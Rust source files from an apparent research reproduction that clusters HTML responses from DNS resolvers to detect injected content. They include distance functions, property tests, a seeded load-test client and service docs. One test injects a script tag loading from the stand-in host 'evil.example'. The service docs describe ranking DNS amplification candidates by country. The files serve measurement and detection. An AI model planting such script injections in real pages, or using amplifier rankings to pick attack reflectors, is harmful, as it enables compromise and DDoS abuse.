    /// A fresh interner pre-seeded with [`KNOWN_TAGS`].
    pub fn new() -> Self {
        let mut by_name = HashMap::with_capacity(KNOWN_TAGS.len() * 2);
        let mut names = Vec::with_capacity(KNOWN_TAGS.len());
        for (i, &tag) in KNOWN_TAGS.iter().enumerate() {
            by_name.insert(tag.to_string(), i as u16);
            names.push(tag.to_string());
        }
        TagInterner { by_name, names }
    }

    /// Identifier for `name`, interning it if unseen. Names are
    /// normalized to lowercase by the tokenizer; we defensively
    /// lowercase again for direct callers.
    pub fn intern(&mut self, name: &str) -> u16 {
        if let Some(&id) = self.by_name.get(name) {
            return id;
        }
        let lower = name.to_ascii_lowercase();
        if let Some(&id) = self.by_name.get(&lower) {
            return id;
        }
        let id = self.names.len() as u16;
        self.names.push(lower.clone());
        self.by_name.insert(lower, id);
        id
    }

    /// Identifier for `name` if already interned.
    pub fn get(&self, name: &str) -> Option<u16> {
        self.by_name.get(name).copied()
    }

    /// Reverse lookup.
    pub fn name(&self, id: u16) -> Option<&str> {
        self.names.get(id as usize).map(|s| s.as_str())
    }

    /// Number of distinct interned names.
    pub fn len(&self) -> usize {
        self.names.len()
    }

    /// Whether nothing beyond the defaults has been interned.
    pub fn is_empty(&self) -> bool {
        self.names.is_empty()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn known_tags_have_stable_ids() {
        let mut a = TagInterner::new();
        let mut b = TagInterner::new();
        assert_eq!(a.intern("div"), b.intern("div"));
        assert_eq!(a.intern("html"), 0);
        assert_eq!(a.intern("head"), 1);
    }

    #[test]
    fn unknown_tags_interned_once() {
        let mut i = TagInterner::new();
        let x = i.intern("blink");
        assert_eq!(i.intern("blink"), x);
        assert_eq!(i.intern("BLINK"), x);
        assert_eq!(i.name(x), Some("blink"));
    }

    #[test]
    fn no_known_tag_duplicates() {
        use std::collections::HashSet;
        let set: HashSet<_> = KNOWN_TAGS.iter().collect();
        assert_eq!(set.len(), KNOWN_TAGS.len());
    }

    #[test]
    fn len_counts_all() {
        let mut i = TagInterner::new();
        let base = i.len();
        i.intern("marquee");
        assert_eq!(i.len(), base + 1);
    }
}
