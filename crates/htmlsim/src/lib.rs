//! # htmlsim — HTML analysis substrate for the *Going Wild* reproduction
//!
//! The paper's analysis stage (Section 3.6) clusters millions of HTTP
//! responses by a seven-feature distance over their HTML structure, then
//! re-clusters the *differences* against ground-truth pages to find small
//! injected modifications. This crate provides everything that stage
//! needs, with no external HTML dependencies:
//!
//! * [`tokenize`] — a permissive, never-panicking HTML tokenizer that
//!   extracts tags, attributes, text, `<title>` content and inline
//!   `<script>` code from arbitrary (possibly hostile) payloads.
//! * [`PageFeatures`] — the per-page feature vector: body length, opening
//!   tag multiset and sequence (as interned 2-byte tag identifiers,
//!   mirroring the paper's normalization), title, concatenated JavaScript,
//!   embedded-resource (`src=`) and outgoing-link (`href=`) multisets.
//! * [`distance`] — Levenshtein (plain + banded), multiset Jaccard, and
//!   the combined seven-feature page distance of Section 3.6.
//! * [`diff`] — Myers O(ND) diff used by the fine-grained clustering to
//!   extract the added/removed tag sets between an unknown response and
//!   its most similar ground-truth representation.
//! * [`gen`] — deterministic generators for every page family that
//!   appears in the study (error pages, router logins, captive portals,
//!   parking, search, censorship landing pages, phishing kits, ad
//!   injections, fake update pages, and per-category legitimate sites).

pub mod diff;
pub mod distance;
pub mod gen;
pub mod page;
pub mod tagid;
pub mod token;

pub use diff::{diff_ops, tag_delta, DiffOp, TagDelta};
pub use distance::{
    jaccard_multiset, levenshtein, levenshtein_normalized, page_distance, FeatureWeights,
};
pub use page::PageFeatures;
pub use tagid::TagInterner;
pub use token::{tokenize, Token};
