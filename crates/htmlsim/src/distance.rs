//! String and set distances, and the combined seven-feature page
//! distance of Section 3.6.

use crate::page::PageFeatures;
use std::collections::BTreeMap;

/// Levenshtein edit distance over arbitrary comparable items.
///
/// Classic two-row dynamic program: O(n·m) time, O(min(n, m)) space.
pub fn levenshtein<T: PartialEq>(a: &[T], b: &[T]) -> usize {
    // Ensure `b` is the shorter side to bound the row width.
    let (long, short) = if a.len() >= b.len() { (a, b) } else { (b, a) };
    if short.is_empty() {
        return long.len();
    }
    let mut row: Vec<usize> = (0..=short.len()).collect();
    for (i, x) in long.iter().enumerate() {
        let mut prev_diag = row[0];
        row[0] = i + 1;
        for (j, y) in short.iter().enumerate() {
            let cost = if x == y { 0 } else { 1 };
            let next = (prev_diag + cost).min(row[j] + 1).min(row[j + 1] + 1);
            prev_diag = row[j + 1];
            row[j + 1] = next;
        }
    }
    row[short.len()]
}

/// Levenshtein distance normalized into `[0, 1]` by the longer length.
/// Two empty sequences have distance 0.
pub fn levenshtein_normalized<T: PartialEq>(a: &[T], b: &[T]) -> f64 {
    let max = a.len().max(b.len());
    if max == 0 {
        return 0.0;
    }
    levenshtein(a, b) as f64 / max as f64
}

/// Levenshtein on string chars, normalized.
pub fn str_distance(a: &str, b: &str) -> f64 {
    // Compare on bytes: the payloads are ASCII-dominated and byte
    // comparison is what the O(n·m) budget is sized for.
    levenshtein_normalized(a.as_bytes(), b.as_bytes())
}

/// Jaccard **distance** for multisets: `1 − |A ∩ B| / |A ∪ B|`, where
/// intersection takes per-item minima and union per-item maxima.
/// Two empty multisets have distance 0.
pub fn jaccard_multiset<K: Ord>(a: &BTreeMap<K, u32>, b: &BTreeMap<K, u32>) -> f64 {
    let mut intersection = 0u64;
    let mut union = 0u64;
    let mut ita = a.iter().peekable();
    let mut itb = b.iter().peekable();
    loop {
        match (ita.peek(), itb.peek()) {
            (Some((ka, &va)), Some((kb, &vb))) => {
                use std::cmp::Ordering::*;
                match ka.cmp(kb) {
                    Less => {
                        union += va as u64;
                        ita.next();
                    }
                    Greater => {
                        union += vb as u64;
                        itb.next();
                    }
                    Equal => {
                        intersection += va.min(vb) as u64;
                        union += va.max(vb) as u64;
                        ita.next();
                        itb.next();
                    }
                }
            }
            (Some((_, &va)), None) => {
                union += va as u64;
                ita.next();
            }
            (None, Some((_, &vb))) => {
                union += vb as u64;
                itb.next();
            }
            (None, None) => break,
        }
    }
    if union == 0 {
        0.0
    } else {
        1.0 - intersection as f64 / union as f64
    }
}

/// Relative length difference in `[0, 1]`.
pub fn length_distance(a: usize, b: usize) -> f64 {
    let max = a.max(b);
    if max == 0 {
        0.0
    } else {
        (a.abs_diff(b)) as f64 / max as f64
    }
}

/// Per-feature weights for the combined page distance. The paper uses
/// "seven normalized features of equal weight"; the ablation benches
/// (A-ABL1) zero individual weights to measure each feature's value.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct FeatureWeights {
    /// Weight of the body-length difference.
    pub body_len: f64,
    /// Weight of the tag-multiset Jaccard distance.
    pub tag_multiset: f64,
    /// Weight of the tag-sequence edit distance.
    pub tag_sequence: f64,
    /// Weight of the `<title>` edit distance.
    pub title: f64,
    /// Weight of the inline-JavaScript edit distance.
    pub javascript: f64,
    /// Weight of the `src=` multiset Jaccard distance.
    pub resources: f64,
    /// Weight of the `href=` multiset Jaccard distance.
    pub links: f64,
}

impl Default for FeatureWeights {
    /// Equal weights, as in the paper.
    fn default() -> Self {
        FeatureWeights {
            body_len: 1.0,
            tag_multiset: 1.0,
            tag_sequence: 1.0,
            title: 1.0,
            javascript: 1.0,
            resources: 1.0,
            links: 1.0,
        }
    }
}

impl FeatureWeights {
    /// Equal weights with one feature removed — used by ablations.
    pub fn without(feature: &str) -> Self {
        let mut w = Self::default();
        match feature {
            "body_len" => w.body_len = 0.0,
            "tag_multiset" => w.tag_multiset = 0.0,
            "tag_sequence" => w.tag_sequence = 0.0,
            "title" => w.title = 0.0,
            "javascript" => w.javascript = 0.0,
            "resources" => w.resources = 0.0,
            "links" => w.links = 0.0,
            other => panic!("unknown feature `{other}`"),
        }
        w
    }

    fn total(&self) -> f64 {
        self.body_len
            + self.tag_multiset
            + self.tag_sequence
            + self.title
            + self.javascript
            + self.resources
            + self.links
    }
}

/// The combined page distance in `[0, 1]`: weighted mean of the seven
/// normalized per-feature distances (Section 3.6).
pub fn page_distance(a: &PageFeatures, b: &PageFeatures, w: &FeatureWeights) -> f64 {
    let total = w.total();
    if total == 0.0 {
        return 0.0;
    }
    let mut acc = 0.0;
    if w.body_len > 0.0 {
        acc += w.body_len * length_distance(a.body_len, b.body_len);
    }
    if w.tag_multiset > 0.0 {
        acc += w.tag_multiset * jaccard_multiset(&a.tag_multiset, &b.tag_multiset);
    }
    if w.tag_sequence > 0.0 {
        acc += w.tag_sequence * levenshtein_normalized(&a.tag_sequence, &b.tag_sequence);
    }
    if w.title > 0.0 {
        acc += w.title * str_distance(&a.title, &b.title);
    }
    if w.javascript > 0.0 {
        acc += w.javascript * str_distance(&a.javascript, &b.javascript);
    }
    if w.resources > 0.0 {
        acc += w.resources * jaccard_multiset(&a.resources, &b.resources);
    }
    if w.links > 0.0 {
        acc += w.links * jaccard_multiset(&a.links, &b.links);
    }
    acc / total
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::tagid::TagInterner;

    #[test]
    fn levenshtein_basics() {
        assert_eq!(levenshtein(b"kitten", b"sitting"), 3);
        assert_eq!(levenshtein(b"", b"abc"), 3);
        assert_eq!(levenshtein(b"abc", b""), 3);
        assert_eq!(levenshtein(b"abc", b"abc"), 0);
        assert_eq!(levenshtein(b"flaw", b"lawn"), 2);
    }

    #[test]
    fn levenshtein_symmetric() {
        assert_eq!(
            levenshtein(b"abcdef", b"azced"),
            levenshtein(b"azced", b"abcdef")
        );
    }

    #[test]
    fn normalized_in_unit_interval() {
        assert_eq!(levenshtein_normalized::<u8>(&[], &[]), 0.0);
        assert_eq!(levenshtein_normalized(b"abc", b"xyz"), 1.0);
        let d = levenshtein_normalized(b"abcd", b"abcx");
        assert!(d > 0.0 && d < 1.0);
    }

    #[test]
    fn jaccard_multiset_semantics() {
        let a: BTreeMap<&str, u32> = [("x", 2), ("y", 1)].into_iter().collect();
        let b: BTreeMap<&str, u32> = [("x", 1), ("z", 1)].into_iter().collect();
        // intersection = min(2,1) = 1; union = max(2,1)+1+1 = 4
        assert!((jaccard_multiset(&a, &b) - 0.75).abs() < 1e-12);
        assert_eq!(jaccard_multiset(&a, &a), 0.0);
        let empty: BTreeMap<&str, u32> = BTreeMap::new();
        assert_eq!(jaccard_multiset(&empty, &empty), 0.0);
        assert_eq!(jaccard_multiset(&a, &empty), 1.0);
    }

    #[test]
    fn identical_pages_have_zero_distance() {
        let mut i = TagInterner::new();
        let html = "<html><head><title>T</title></head><body><p>x</p></body></html>";
        let a = PageFeatures::extract(html, &mut i);
        let b = PageFeatures::extract(html, &mut i);
        assert_eq!(page_distance(&a, &b, &FeatureWeights::default()), 0.0);
    }

    #[test]
    fn unrelated_pages_have_large_distance() {
        let mut i = TagInterner::new();
        let a = PageFeatures::extract(
            "<html><head><title>Bank login</title><script>auth();</script></head>\
             <body><form action=\"/login\"><input></form></body></html>",
            &mut i,
        );
        let b = PageFeatures::extract(
            "<html><head><title>404 Not Found</title></head><body><h1>404</h1></body></html>",
            &mut i,
        );
        let d = page_distance(&a, &b, &FeatureWeights::default());
        assert!(d > 0.35, "distance was {d}");
    }

    #[test]
    fn small_modification_has_small_distance() {
        let mut i = TagInterner::new();
        let base = format!(
            "<html><head><title>News</title></head><body>{}</body></html>",
            "<div><p>story</p></div>".repeat(40)
        );
        let injected = base.replace(
            "</body>",
            "<script src=\"http://evil.example/adjector.js\"></script></body>",
        );
        let a = PageFeatures::extract(&base, &mut i);
        let b = PageFeatures::extract(&injected, &mut i);
        let d = page_distance(&a, &b, &FeatureWeights::default());
        assert!(d < 0.2, "distance was {d}");
        assert!(d > 0.0);
    }

    #[test]
    fn distance_is_symmetric_and_bounded() {
        let mut i = TagInterner::new();
        let a = PageFeatures::extract("<p>one</p>", &mut i);
        let b = PageFeatures::extract(
            "<html><body><table><tr><td>x</td></tr></table></body></html>",
            &mut i,
        );
        let w = FeatureWeights::default();
        let d1 = page_distance(&a, &b, &w);
        let d2 = page_distance(&b, &a, &w);
        assert_eq!(d1, d2);
        assert!((0.0..=1.0).contains(&d1));
    }

    #[test]
    fn ablation_weights() {
        let w = FeatureWeights::without("javascript");
        assert_eq!(w.javascript, 0.0);
        assert_eq!(w.title, 1.0);
    }

    #[test]
    #[should_panic(expected = "unknown feature")]
    fn ablation_rejects_unknown_feature() {
        let _ = FeatureWeights::without("bogus");
    }
}
