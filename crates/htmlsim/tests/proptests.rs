//! Property tests for the HTML substrate: tokenizer totality, diff
//! correctness, and distance-function invariants.

use htmlsim::diff::{diff_ops, DiffOp};
use htmlsim::distance::{jaccard_multiset, levenshtein, levenshtein_normalized};
use htmlsim::{tokenize, PageFeatures, TagInterner};
use proptest::prelude::*;
use std::collections::BTreeMap;

fn apply(ops: &[DiffOp], a: &[u8], b: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    for op in ops {
        match *op {
            DiffOp::Keep { a_idx, .. } => out.push(a[a_idx]),
            DiffOp::Delete { .. } => {}
            DiffOp::Insert { b_idx } => out.push(b[b_idx]),
        }
    }
    out
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    /// The tokenizer never panics and terminates on arbitrary input.
    #[test]
    fn tokenizer_is_total(input in "[\\x20-\\x7e<>/\"'=!-]{0,300}") {
        let _ = tokenize(&input);
    }

    /// Feature extraction never panics on arbitrary input and produces
    /// consistent fingerprints.
    #[test]
    fn features_are_total_and_stable(input in "[\\x20-\\x7e<>/\"'=!-]{0,300}") {
        let mut i1 = TagInterner::new();
        let mut i2 = TagInterner::new();
        let a = PageFeatures::extract(&input, &mut i1);
        let b = PageFeatures::extract(&input, &mut i2);
        prop_assert_eq!(a.fingerprint(), b.fingerprint());
    }

    /// Myers diff produces a script that transforms a into b, with cost
    /// equal to the edit distance under insert/delete (= a+b length
    /// minus twice the LCS; we check ≤ levenshtein-based bound and
    /// correctness of application).
    #[test]
    fn diff_script_is_correct(
        a in proptest::collection::vec(0u8..6, 0..40),
        b in proptest::collection::vec(0u8..6, 0..40),
    ) {
        let ops = diff_ops(&a, &b);
        prop_assert_eq!(apply(&ops, &a, &b), b.clone());
        let cost = ops.iter().filter(|o| !matches!(o, DiffOp::Keep { .. })).count();
        // Insert/delete cost is at least |len(a)−len(b)| and at most
        // len(a)+len(b); also ≥ levenshtein (which allows substitution).
        prop_assert!(cost >= a.len().abs_diff(b.len()));
        prop_assert!(cost <= a.len() + b.len());
        prop_assert!(cost >= levenshtein(&a, &b));
        // And at most twice levenshtein (substitution = delete+insert).
        prop_assert!(cost <= 2 * levenshtein(&a, &b));
    }

    /// Diff of identical sequences is all-keeps.
    #[test]
    fn diff_identity(a in proptest::collection::vec(0u8..6, 0..60)) {
        let ops = diff_ops(&a, &a);
        let all_keeps = ops.iter().all(|o| matches!(o, DiffOp::Keep { .. }));
        prop_assert!(all_keeps);
        prop_assert_eq!(ops.len(), a.len());
    }

    /// Levenshtein is a metric: identity, symmetry, triangle inequality.
    #[test]
    fn levenshtein_is_a_metric(
        a in proptest::collection::vec(0u8..4, 0..20),
        b in proptest::collection::vec(0u8..4, 0..20),
        c in proptest::collection::vec(0u8..4, 0..20),
    ) {
        prop_assert_eq!(levenshtein(&a, &a), 0);
        prop_assert_eq!(levenshtein(&a, &b), levenshtein(&b, &a));
        prop_assert!(levenshtein(&a, &c) <= levenshtein(&a, &b) + levenshtein(&b, &c));
    }

    /// Normalized distances stay in [0, 1].
    #[test]
    fn normalized_bounds(
        a in proptest::collection::vec(0u8..4, 0..30),
        b in proptest::collection::vec(0u8..4, 0..30),
    ) {
        let d = levenshtein_normalized(&a, &b);
        prop_assert!((0.0..=1.0).contains(&d));
    }

    /// Multiset Jaccard distance is bounded, symmetric, and zero on
    /// identical multisets.
    #[test]
    fn jaccard_properties(
        a in proptest::collection::btree_map(0u16..20, 1u32..5, 0..10),
        b in proptest::collection::btree_map(0u16..20, 1u32..5, 0..10),
    ) {
        let a: BTreeMap<u16, u32> = a;
        let b: BTreeMap<u16, u32> = b;
        let dab = jaccard_multiset(&a, &b);
        let dba = jaccard_multiset(&b, &a);
        prop_assert!((dab - dba).abs() < 1e-12);
        prop_assert!((0.0..=1.0).contains(&dab));
        prop_assert_eq!(jaccard_multiset(&a, &a), 0.0);
    }
}
