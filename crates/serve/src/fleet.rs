//! A deterministic synthetic client fleet.
//!
//! Replays a B-Root-shaped query mix against a running daemon: mostly
//! point lookups concentrated on a hot head of popular keys, with a
//! tail of aggregate queries (churn curves, amplifier rankings,
//! coverage). "Shape" here means composition and skew, not captured
//! traffic: ~70% classify, 10% churn, 10% amplifiers, 5% coverage,
//! 5% inventory, with hot-key concentration via a squared-uniform
//! index into the popularity ranking.
//!
//! Everything is seeded: client `i` derives its own [`SmallRng`] from
//! `seed`, targets come from the store itself (ranked by observed
//! stability), and each response folds into a per-client FNV-1a
//! digest. Client digests combine in client-index order, so the fleet
//! digest is independent of thread timing — two runs with the same
//! seed against the same store bytes must report the same digest.

use crate::engine::QueryEngine;
use rand::rngs::SmallRng;
use rand::{Rng, SeedableRng};
use std::io::{self, Read as _, Write as _};
use std::net::{Ipv4Addr, SocketAddr, TcpStream};
use std::path::PathBuf;
use std::time::{Duration, Instant};

/// Fleet configuration.
#[derive(Debug, Clone)]
pub struct FleetOptions {
    /// Daemon address to query.
    pub addr: SocketAddr,
    /// Store root, used to derive the target population (IPs ranked by
    /// stability, AS numbers, countries, campaign names).
    pub store: PathBuf,
    /// Master seed; same seed + same store = same requests and digest.
    pub seed: u64,
    /// Concurrent clients (std threads).
    pub clients: usize,
    /// Requests per client.
    pub requests: usize,
}

/// What the fleet observed.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct FleetReport {
    /// Requests attempted across all clients.
    pub requests: u64,
    /// Transport failures plus non-200 responses.
    pub errors: u64,
    /// Total response bytes received.
    pub bytes: u64,
    /// Order-stable FNV-1a digest over every response.
    pub digest: u64,
    /// Wall-clock duration of the fleet run.
    pub wall_ms: u64,
}

impl FleetReport {
    /// The run's outcome without wall-clock fields: byte-identical
    /// across same-seed runs, so CI can diff it directly.
    pub fn deterministic_json(&self) -> String {
        format!(
            "{{\"requests\":{},\"errors\":{},\"bytes\":{},\"digest\":\"{:016x}\"}}",
            self.requests, self.errors, self.bytes, self.digest
        )
    }
}

/// The target population, derived once from the store.
#[derive(Debug, Clone)]
struct Plan {
    /// IPs ranked hottest-first (most rounds observed).
    ips: Vec<Ipv4Addr>,
    asns: Vec<u32>,
    countries: Vec<String>,
    campaigns: Vec<String>,
}

fn build_plan(store: &PathBuf) -> io::Result<Plan> {
    let engine = QueryEngine::open(store)?;
    let mut ranked: Vec<(u32, u32)> = Vec::new(); // (rounds, ip)
    let mut asns: Vec<u32> = Vec::new();
    let mut countries: Vec<String> = Vec::new();
    let mut campaigns: Vec<String> = Vec::new();
    for name in engine.campaigns().map(str::to_string).collect::<Vec<_>>() {
        let view = engine.view(&name).expect("campaign listed");
        for e in view.index().entries() {
            ranked.push((e.rounds, e.ip));
            let country = scanstore::SnapshotSource::string(view, e.latest.country);
            if !country.is_empty() && !countries.iter().any(|c| c == country) {
                countries.push(country.to_string());
            }
        }
        for asn in view.index().asns() {
            if asn != 0 && !asns.contains(&asn) {
                asns.push(asn);
            }
        }
        campaigns.push(name);
    }
    // Hottest first; ties resolve by address for a total order.
    ranked.sort_by_key(|&(rounds, ip)| (std::cmp::Reverse(rounds), ip));
    ranked.dedup_by_key(|&mut (_, ip)| ip);
    ranked.truncate(512);
    asns.sort_unstable();
    asns.truncate(64);
    countries.sort_unstable();
    countries.truncate(32);
    Ok(Plan {
        ips: ranked.iter().map(|&(_, ip)| Ipv4Addr::from(ip)).collect(),
        asns,
        countries,
        campaigns,
    })
}

/// Picks a hot-skewed index: squaring a uniform draw concentrates mass
/// near 0, i.e. on the hottest keys.
fn hot_index(rng: &mut SmallRng, len: usize) -> usize {
    let u = rng.gen::<f64>();
    ((u * u * len as f64) as usize).min(len - 1)
}

/// One client's next request target.
fn next_target(rng: &mut SmallRng, plan: &Plan) -> String {
    let roll = rng.gen_range(0..100u32);
    if roll < 70 && !plan.ips.is_empty() {
        // 2% of lookups ask about addresses nobody has scanned, the
        // way a real consumer probes candidates.
        if rng.gen_bool(0.02) {
            let a = rng.gen_range(0..256u32);
            let b = rng.gen_range(0..256u32);
            return format!("/classify?ip=203.0.{a}.{b}");
        }
        let ip = plan.ips[hot_index(rng, plan.ips.len())];
        format!("/classify?ip={ip}")
    } else if roll < 80 && !plan.asns.is_empty() {
        let asn = plan.asns[hot_index(rng, plan.asns.len())];
        format!("/churn?asn={asn}")
    } else if roll < 90 && !plan.countries.is_empty() {
        let country = &plan.countries[hot_index(rng, plan.countries.len())];
        let limit = 5 + 5 * rng.gen_range(0..4u32);
        format!("/amplifiers?country={country}&limit={limit}")
    } else if roll < 95 && !plan.campaigns.is_empty() {
        let campaign = &plan.campaigns[rng.gen_range(0..plan.campaigns.len())];
        format!("/coverage?campaign={campaign}")
    } else {
        "/campaigns".to_string()
    }
}

const FNV_OFFSET: u64 = 0xcbf2_9ce4_8422_2325;
const FNV_PRIME: u64 = 0x0000_0100_0000_01b3;

fn fnv_fold(mut digest: u64, bytes: &[u8]) -> u64 {
    for &b in bytes {
        digest ^= u64::from(b);
        digest = digest.wrapping_mul(FNV_PRIME);
    }
    digest
}

struct ClientReport {
    requests: u64,
    errors: u64,
    bytes: u64,
    digest: u64,
}

/// Issues one blocking request; returns `(status, response bytes)`.
fn fetch(addr: SocketAddr, target: &str) -> io::Result<(u16, Vec<u8>)> {
    let mut stream = TcpStream::connect(addr)?;
    stream.set_read_timeout(Some(Duration::from_secs(5)))?;
    stream.set_nodelay(true)?;
    write!(
        stream,
        "GET {target} HTTP/1.1\r\nHost: fleet\r\nConnection: close\r\n\r\n"
    )?;
    let mut response = Vec::with_capacity(1024);
    stream.read_to_end(&mut response)?;
    let status = response
        .strip_prefix(b"HTTP/1.1 ")
        .and_then(|rest| std::str::from_utf8(rest.get(..3)?).ok())
        .and_then(|code| code.parse::<u16>().ok())
        .ok_or_else(|| io::Error::new(io::ErrorKind::InvalidData, "bad status line"))?;
    Ok((status, response))
}

fn run_client(addr: SocketAddr, plan: &Plan, seed: u64, requests: usize) -> ClientReport {
    let mut rng = SmallRng::seed_from_u64(seed);
    let mut report = ClientReport {
        requests: 0,
        errors: 0,
        bytes: 0,
        digest: FNV_OFFSET,
    };
    for _ in 0..requests {
        let target = next_target(&mut rng, plan);
        report.requests += 1;
        match fetch(addr, &target) {
            Ok((200, body)) => {
                report.bytes += body.len() as u64;
                report.digest = fnv_fold(report.digest, &body);
            }
            Ok((status, body)) => {
                report.errors += 1;
                report.bytes += body.len() as u64;
                eprintln!("fleet: {target} -> {status}");
            }
            Err(e) => {
                report.errors += 1;
                eprintln!("fleet: {target} -> {e}");
            }
        }
    }
    report
}

/// Runs the fleet to completion and folds per-client results in
/// client-index order.
pub fn run_fleet(opts: &FleetOptions) -> io::Result<FleetReport> {
    let plan = build_plan(&opts.store)?;
    if plan.ips.is_empty() && plan.campaigns.is_empty() {
        return Err(io::Error::new(
            io::ErrorKind::InvalidData,
            "store has no committed observations to query",
        ));
    }
    let started = Instant::now();
    let mut handles = Vec::with_capacity(opts.clients);
    for client in 0..opts.clients {
        let plan = plan.clone();
        let addr = opts.addr;
        // Distinct, reproducible per-client stream.
        let seed = opts.seed ^ (client as u64).wrapping_mul(0x9e37_79b9_7f4a_7c15);
        let requests = opts.requests;
        handles.push(std::thread::spawn(move || {
            run_client(addr, &plan, seed, requests)
        }));
    }
    let mut report = FleetReport {
        requests: 0,
        errors: 0,
        bytes: 0,
        digest: FNV_OFFSET,
        wall_ms: 0,
    };
    for handle in handles {
        let client = handle
            .join()
            .map_err(|_| io::Error::other("fleet client panicked"))?;
        report.requests += client.requests;
        report.errors += client.errors;
        report.bytes += client.bytes;
        report.digest = fnv_fold(report.digest, &client.digest.to_be_bytes());
    }
    report.wall_ms = started.elapsed().as_millis() as u64;
    Ok(report)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn target_streams_are_seed_deterministic() {
        let plan = Plan {
            ips: vec![Ipv4Addr::new(0, 0, 0, 10), Ipv4Addr::new(0, 0, 0, 20)],
            asns: vec![1, 2],
            countries: vec!["DE".into(), "US".into()],
            campaigns: vec!["weekly".into()],
        };
        let targets = |seed: u64| -> Vec<String> {
            let mut rng = SmallRng::seed_from_u64(seed);
            (0..50).map(|_| next_target(&mut rng, &plan)).collect()
        };
        assert_eq!(targets(7), targets(7));
        assert_ne!(targets(7), targets(8));
        // The mix leans heavily on point lookups.
        let classify = targets(7)
            .iter()
            .filter(|t| t.starts_with("/classify"))
            .count();
        assert!(classify > 25, "{classify} classify targets out of 50");
    }

    #[test]
    fn digest_folding_is_order_stable() {
        let d1 = fnv_fold(FNV_OFFSET, b"hello");
        let d2 = fnv_fold(FNV_OFFSET, b"hello");
        assert_eq!(d1, d2);
        assert_ne!(fnv_fold(d1, b"a"), fnv_fold(d1, b"b"));
    }
}
