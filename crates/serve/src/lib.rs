//! serve: a long-running HTTP/JSON query service over on-disk
//! [`scanstore`] campaigns.
//!
//! The collection pipeline ends in static tables; this crate turns a
//! committed store into a *service*. Four query families, answered
//! straight from [`scanstore::StoreView`] read indexes:
//!
//! * `GET /classify?ip=a.b.c.d` — everything the campaigns know about
//!   one resolver: liveness, rcode, proxy/TCP flags, CHAOS outcome,
//!   software, device, country, AS, rDNS token, presence history;
//! * `GET /churn?asn=N[&campaign=c]` — per-snapshot presence and
//!   cohort-survival series for one AS (Fig. 2 shape, scoped to an AS);
//! * `GET /amplifiers?country=CC[&limit=n][&campaign=c]` — top
//!   amplification candidates in a country, ranked by a deterministic
//!   integer score (stability, open recursion, TCP fallback);
//! * `GET /coverage?campaign=c` — per-snapshot record counts, labels,
//!   and commit metadata for one campaign.
//!
//! Plus `GET /campaigns` (inventory), `GET /healthz`, and
//! `GET /metrics` (telemetry snapshot; never cached).
//!
//! Architecture (DESIGN §10): the daemon holds an immutable
//! [`QueryEngine`] behind a swap lock. Requests clone the current
//! `Arc<QueryEngine>` and keep answering from it even if a refresh
//! swaps in a newer engine mid-flight, so a new campaign commit is
//! served without dropping in-flight queries. Responses are cached in
//! an LRU keyed by `(engine generation, request path)` with
//! `serve.cache.hit` / `serve.cache.miss` telemetry. Every response
//! body is a pure function of (store bytes, request), so two runs of
//! the seeded [`fleet`] against the same store are byte-identical.

pub mod cache;
pub mod engine;
pub mod fleet;
pub mod http;
pub mod server;
pub mod signal;

pub use cache::LruCache;
pub use engine::QueryEngine;
pub use fleet::{run_fleet, FleetOptions, FleetReport};
pub use server::{RunningServer, ServeOptions, ServeSummary};
